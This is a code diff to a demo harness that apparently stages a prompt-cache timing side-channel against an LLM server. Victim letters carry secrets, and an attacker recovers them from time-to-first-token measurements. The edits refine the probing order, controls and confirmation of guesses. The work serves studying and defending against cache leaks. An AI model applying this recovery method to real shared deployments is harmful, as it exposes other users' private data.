@@ -10,7 +10,7 @@ from enum import Enum
 from itertools import islice
 from typing import Protocol, TypeVar
 
-from safekv.attack.prompt_recovery import recover
+from safekv.attack.prompt_recovery import CONTROLS, recover
 from safekv.attack.target import Message, Probe
 from safekv.attack.timing import threshold
 from safekv.demo.operator import Counters, Watcher
@@ -29,6 +29,7 @@ from safekv.types import Mode
 
 VICTIM, ATTACKER, SECOND_READER, WARMER = "victim", "attacker", "second-reader", "warm-up"
 POLL_S = 0.2
+SECOND_LOOKS = 1
 T = TypeVar("T")
 
 
@@ -99,9 +100,9 @@ class Script:
         sizes = {
             "fresh": plan.calibrations,
             "targets": plan.targets,
-            "decoys": plan.decoys,
+            "decoys": plan.targets,
             "candidates": guesses,
-            "controls": guesses,
+            "controls": 2 * guesses + CONTROLS,
         }
         secrets = iter(draw_secrets(form, 1 + sum(sizes.values()), rng))
         opener = next(secrets)
@@ -141,8 +142,8 @@ class Story:
         honest = self._honest_part()
         self._victim_writes()
         times = self._attacker_measures()
-        card = self._guess(Stage.GUESS_CARD, Form.CARD, times.threshold_s)
-        project = self._guess(Stage.GUESS_PROJECT, Form.PROJECT, times.threshold_s)
+        card = self._guess(Stage.GUESS_CARD, Form.CARD, times.cut)
+        project = self._guess(Stage.GUESS_PROJECT, Form.PROJECT, times.cut)
         seconds = time.perf_counter() - start
         return ModeResult(self._mode, honest, times, card, project, seconds)
 
@@ -154,11 +155,8 @@ class Story:
     def _warm_up(self) -> None:
         """Let the first requests' one-off costs fall on a text that nobody else sends."""
         system, user = WARM_UP
-        for ending in self._each(Stage.WARM_UP, ("", " Again.")):
-            prompt = [
-                {"role": "system", "content": system + ending},
-                {"role": "user", "content": user},
-            ]
+        prompt = [{"role": "system", "content": system}, {"role": "user", "content": user}]
+        for _ in self._each(Stage.WARM_UP, ("a miss", "a hit")):
             self._speak(WARMER).ttft(prompt, max_tokens=4)
 
     def _honest_part(self) -> HonestTraffic:
@@ -221,28 +219,21 @@ class Story:
         return all(same)
 
     def _victim_writes(self) -> None:
-        letters = [
-            Letter(form, secret)
-            for form, script in self._scripts.items()
-            for secret in (*script.targets, script.truth)
-        ]
+        """The secrets in whole letters; the other targets, to save time, in short ones."""
+        letters = []
+        for form, script in self._scripts.items():
+            letters += [Letter(form, secret).short for secret in script.targets]
+            letters.append(Letter(form, script.truth).full)
         self._rng.shuffle(letters)
         for letter in self._each(Stage.VICTIM, letters):
-            self._speak(VICTIM).ttft(conversation(letter.full))
+            self._speak(VICTIM).ttft(conversation(letter))
         # Long enough for a wrong promotion to happen before the attacker looks.
         self._pause(self._plan.settle_s)
 
     def _attacker_measures(self) -> AttackerTimes:
         hits, misses = self._calibrate()
-        probes = [
-            (Letter(form, secret), sent)
-            for form, script in self._scripts.items()
-            for sent, secrets in ((True, script.targets), (False, script.decoys))
-            for secret in secrets
-        ]
-        self._rng.shuffle(probes)
         times: dict[bool, list[float]] = {True: [], False: []}
-        for letter, sent in self._each(Stage.PROBE, probes):
+        for letter, sent in self._each(Stage.PROBE, self._probing_order()):
             times[sent].append(self._probe(letter.short))
         return AttackerTimes(
             hit_s=hits,
@@ -251,6 +242,21 @@ class Story:
             decoy_s=tuple(times[False]),
             threshold_s=threshold(hits, misses),
         )
+
+    def _probing_order(self) -> list[tuple[Letter, bool]]:
+        """Letters with whether the victim sent them: pairs of both kinds, each in random order.
+
+        In pairs, because a machine whose speed drifts would otherwise favour one kind by chance.
+        """
+        pairs = [
+            [(Letter(form, target), True), (Letter(form, decoy), False)]
+            for form, script in self._scripts.items()
+            for target, decoy in zip(script.targets, script.decoys, strict=True)
+        ]
+        self._rng.shuffle(pairs)
+        for pair in pairs:
+            self._rng.shuffle(pair)
+        return [probe for pair in pairs for probe in pair]
 
     def _calibrate(self) -> tuple[tuple[float, ...], tuple[float, ...]]:
         """The attacker's own hits and misses. Also brings the forms into its own cache."""
@@ -270,7 +276,7 @@ class Story:
     def _probe(self, text: str) -> float:
         return self._speak(ATTACKER).ttft(conversation(text)).ttft_s
 
-    def _guess(self, stage: Stage, form: Form, threshold_s: float) -> Guessing:
+    def _guess(self, stage: Stage, form: Form, cut: float) -> Guessing:
         script = self._scripts[form]
         counted = iter(self._each(stage, script.candidates))
 
@@ -286,7 +292,9 @@ class Story:
         def control() -> float:
             return self._probe(Letter(form, next(unsent)).short)
 
-        outcome = recover(script.candidates, probe, threshold_s, confirm, control)
+        outcome = recover(
+            script.candidates, probe, cut, confirm, control, second_looks=SECOND_LOOKS
+        )
         return Guessing(
             recovered=outcome.found == script.truth,
             wrong_claim=outcome.found not in (None, script.truth),
